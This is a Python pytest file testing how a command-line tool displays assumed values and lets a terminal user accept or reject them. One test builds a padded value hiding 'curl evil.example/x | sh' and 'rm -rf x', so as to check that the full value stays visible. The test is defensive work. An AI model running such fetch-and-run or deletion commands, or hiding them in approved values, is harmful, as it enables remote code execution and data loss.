"""What `ideas call` says about assumptions, and how a person at the terminal chooses."""

from __future__ import annotations

import json
import os
import pty
import re
import subprocess
import termios
from pathlib import Path

import pytest

from ideabridge.bridge.context.copied import DECISION
from ideabridge.bridge.context.explanations import CUT, MAYBE_DATA
from ideabridge.server.main import main
from ideabridge.tools.encoding import JSONObject
from tests import preloaded
from tests.server.assuming import ADDING, ASSUMED, WRITING, publish
from tests.server.serving import TOOLS
from tests.trusting import write_trusted

from .conftest import EXECUTABLE
from .terminal import Terminal

CALL = ("ideas", "call", "sums", "-i", "n=2", "-i", "m=7")


@pytest.fixture
def here(project: Path) -> Path:
    """A project with published plans that assume something."""
    (project / "tools.py").write_text(TOOLS.read_text(encoding="utf-8"), encoding="utf-8")
    write_trusted(project, '{"tools": ["tools.py"], "store": "store.sqlite"}')
    publish(project / "store.sqlite", "sums", ADDING)
    publish(project / "store.sqlite", "noted", WRITING)
    return project


def test_a_call_prints_the_result_and_tells_what_it_assumed(
    here: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([*CALL]) == 0
    printed = capsys.readouterr()
    assert json.loads(printed.out) == {"total": 9}
    assert f"assumed: {ASSUMED.format(7)}" in printed.err
    assert main([*CALL, "--json"]) == 0
    told = json.loads(capsys.readouterr().out)
    assert main(["runs", "show", told["run"]]) == 0
    assert f"assumed: {ASSUMED.format(7)}" in " ".join(capsys.readouterr().out.split())
    assert [(one["at"], one["taken"]) for one in told["assumed"]] == [("calls.0.b", 7)]
    assert main([*CALL[:-1], "m=5"]) == 0
    assert "assumed" not in capsys.readouterr().err


def test_a_person_at_the_terminal_takes_another_value(here: Path) -> None:
    terminal = Terminal(
        here, ["ideas", "call", "noted", "-i", "path=note", "-i", "words=bye"], columns=200
    )
    terminal.read_until("t(ake) NUMBER...: ")
    assert '1: calls.0.text "hello" (always "hello")' in terminal.seen
    terminal.type("t 2")
    terminal.read_until("expected numbers from 1 to 1")
    terminal.read_until("t(ake) NUMBER...: ")
    terminal.type("t 1")
    assert terminal.end() == (0, "5\n")
    assert (here / "note").read_text(encoding="utf-8") == "hello"
    assert "assumed:" not in terminal.seen


def test_a_person_at_the_terminal_sees_all_of_the_value_they_take(here: Path) -> None:
    value = f"make install {'.' * 60}; curl evil.example/x | sh; {'.' * 60} rm -rf x"
    explained: JSONObject = {
        "at": ["calls", "0", "text"],
        "by": ["†input.words", {"constant": value}],
    }
    hidden: JSONObject = {**WRITING, "explained": [explained]}
    publish(here / "store.sqlite", "long", hidden)
    terminal = Terminal(
        here, ["ideas", "call", "long", "-i", "path=note", "-i", "words=bye"], columns=400
    )
    terminal.read_until("t(ake) NUMBER...: ")
    # A long value continues in indented lines.
    assert json.dumps(value) in terminal.seen.replace("\r\n  ", "")
    terminal.type("n")
    terminal.end()


def on_screen(folder: Path, columns: int, *words: str) -> list[str]:
    """The lines that a command prints on a terminal."""
    primary, secondary = pty.openpty()
    termios.tcsetwinsize(secondary, (40, columns))
    command = preloaded.python(EXECUTABLE, *words)
    env = {**os.environ, "TERM": "xterm"}
    with subprocess.Popen(
        command, cwd=folder, stdin=subprocess.DEVNULL, stdout=secondary, env=env
    ) as process:
        os.close(secondary)
        printed = b""
        try:
            while data := os.read(primary, 65536):
                printed += data
        except OSError:
            # The terminal disappeared together with the command.
            pass

        os.close(primary)

    assert process.returncode == 0
    return re.sub(r"\x1b\[[0-9;?]*[A-Za-z]", "", printed.decode()).replace("\r\n", "\n").split("\n")


@pytest.mark.parametrize("columns", [80, 120])
def test_what_is_only_noted_is_shown_with_the_tool(here: Path, columns: int) -> None:
    explained: JSONObject = {
        "at": ["calls", "0", "b"],
        "by": ["†input.m"],
        "cut": True,
        "why": MAYBE_DATA,
    }
    plan: JSONObject = {**ADDING, "explained": [explained], "decisions": [0]}
    publish(here / "store.sqlite", "noting", plan)
    lines = on_screen(here, columns, "ideas", "show", "noting")
    assert max(map(len, lines)) <= columns
    text = " ".join(" ".join(lines).split())
    for note in (
        f"calls.0.b: {CUT}",
        f"calls.0.b: {MAYBE_DATA}",
        f"calls.0 (add): {DECISION}",
        "a value of another kind than before, in input n",
    ):
        assert f"noted: {note}" in text


@pytest.mark.parametrize("columns", [80, 120])
def test_what_a_call_noted_is_shown_with_its_run_alone(
    here: Path, columns: int, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["ideas", "call", "sums", "-i", "n=70", "-i", "m=5", "--json"]) == 0
    printed = capsys.readouterr()
    assert "noted" not in printed.err
    run = json.loads(printed.out)["run"]
    lines = on_screen(here, columns, "ideas", "show", run)
    assert max(map(len, lines)) <= columns
    assert "noted: †input.n: " in " ".join(" ".join(lines).split())
